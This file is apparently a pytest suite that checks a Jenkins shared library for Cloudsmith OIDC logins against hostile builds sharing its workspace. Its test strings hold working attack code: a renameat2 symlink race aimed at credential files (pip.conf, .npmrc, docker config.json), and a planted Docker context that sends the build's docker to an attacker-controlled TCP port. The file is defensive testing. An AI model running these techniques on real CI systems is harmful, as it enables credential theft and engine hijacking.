"""Code of the build that shares the workspace and its `@tmp`: in a container, or left there for the next step."""

import socket
import threading
from collections.abc import Iterator
from contextlib import contextmanager

import pytest

from jenkins.runs import Remains, Runs
from sandbox import Sandbox

LIBRARY = "@Library('cloudsmith-oidc') _\n"
CONFINED = """
    sh '''
    docker run --rm --network none --user 0:0 -v "$WORKSPACE:$WORKSPACE" -v "$WORKSPACE_TMP:$WORKSPACE_TMP" \\
        --entrypoint python3 IMAGE -c "$ATTACK" "$WORKSPACE" "$WORKSPACE_TMP"
    '''
"""
FLIP = """
import ctypes, glob, os, sys, time
workspace, temporary = sys.argv[1:]
exchange = ctypes.CDLL(None).renameat2
bait = f"{temporary}/bait"  # names are exchanged within one mount only
os.makedirs(f"{bait}/docker")
for name in ("pip.conf", ".npmrc", "docker/config.json", "login.json", "env"):
    os.symlink(f"{workspace}/precious/{os.path.basename(name)}", f"{bait}/{name}")
os.symlink(f"{workspace}/precious", f"{bait}/link")
end, done = time.monotonic() + SECONDS, 0
while time.monotonic() < end:
    for login in glob.glob(f"{temporary}/cloudsmith-oidc-*"):
        for mine, theirs in (("link", ""), ("link", "/docker"), ("docker", "/docker"), ("pip.conf", "/pip.conf"),
                             ("login.json", "/login.json")):
            for _ in range(2):
                done += not exchange(-100, f"{bait}/{mine}".encode(), -100, f"{login}{theirs}".encode(), 2)
print("exchanged", done)
"""
PLANT_CONTEXT = """
import glob, hashlib, json, os, sys
[login] = glob.glob(f"{sys.argv[2]}/cloudsmith-oidc-*")
meta = f"{login}/docker/contexts/meta/{hashlib.sha256(b'attack').hexdigest()}"
os.makedirs(meta)
open(f"{meta}/meta.json", "w").write(json.dumps(
    {"Name": "attack", "Endpoints": {"docker": {"Host": "tcp://127.0.0.1:PORT", "SkipTLSVerify": True}}}))
open(f"{login}/docker/config.json", "w").write('{"currentContext": "attack"}')
"""


@contextmanager
def trap() -> Iterator[tuple[int, list[object]]]:
    """Play the attacker's engine: a port that notes who connects."""
    with socket.create_server(("127.0.0.1", 0)) as server:
        victims: list[object] = []

        def note() -> None:
            while True:
                try:
                    connection, address = server.accept()
                except OSError:
                    return
                victims.append(address)
                connection.close()

        threading.Thread(target=note, daemon=True).start()
        yield server.getsockname()[1], victims
        server.shutdown(socket.SHUT_RDWR)


@pytest.mark.parametrize(
    "again", ["cloudsmithOidc.refresh()", "cloudsmithOidc(network: 'host') { }"], ids=["refresh", "nest"]
)
def test_a_planted_context_is_not_followed(runs: Runs, image: str, again: str) -> None:
    """Without DOCKER_HOST, as that would win over any context. Whether the agent has an engine then does not matter."""
    with trap() as (port, victims):
        plant = CONFINED.replace("IMAGE", image)
        build = runs.pipeline(
            LIBRARY
            + f"""
            node {{
                cloudsmithOidc(network: 'host') {{
                    {plant}
                    withEnv(['DOCKER_HOST=']) {{
                        sh 'docker version || true'
                        echo 'the attack works'
                        try {{ {again} }} catch (e) {{ echo "caught: ${{e.message}}" }}
                    }}
                }}
            }}
            """,
            CLOUDSMITH_OIDC_IMAGE=image,
            ATTACK=PLANT_CONTEXT.replace("PORT", str(port)),
        )
        assert build.result == "SUCCESS"
        assert "the attack works" in build.console
        # The build's own docker was led there, and nobody else.
        before = build.console.partition("the attack works")[0]
        assert f"127.0.0.1:{port}" in before
        led = len(victims)
        assert led > 0
        assert f"127.0.0.1:{port}" not in build.console.partition("the attack works")[2]
    assert runs.remains(build) == Remains()


def test_names_that_change_all_the_time_lead_nowhere(runs: Runs, sandbox: Sandbox, image: str) -> None:
    """While confined code exchanges names in the login directory, it is refreshed ten times, and then removed."""
    confined = CONFINED.replace("IMAGE", image)
    build = runs.on_node(
        f"""
        sh 'mkdir -p precious; for name in config.json pip.conf login.json; do echo mine > precious/$name; done'
        cloudsmithOidc {{
            parallel(attack: {{ {confined} }}, refresh: {{
                for (int i = 0; i < 10; i++) {{
                    try {{ cloudsmithOidc.refresh() }} catch (e) {{ echo "caught: ${{e.message}}" }}
                }}
            }})
        }}
        sh '''#!/bin/sh
        cat precious/config.json precious/login.json precious/pip.conf
        ls -A precious | sed 's/^/there: /'
        rm -rf precious "$WORKSPACE_TMP/bait"
        '''
        """,
        ATTACK=FLIP.replace("SECONDS", "15"),
    )
    assert build.result == "SUCCESS"
    exchanged = int(build.console.partition("\nexchanged ")[2].split()[0])
    assert exchanged > 1000
    assert build.console.splitlines().count("mine") == 3
    assert [line for line in build.console.splitlines() if line.startswith("there: ")] == [
        "there: config.json",
        "there: login.json",
        "there: pip.conf",
    ]
    assert len(sandbox.cloudsmith.issued) > 1
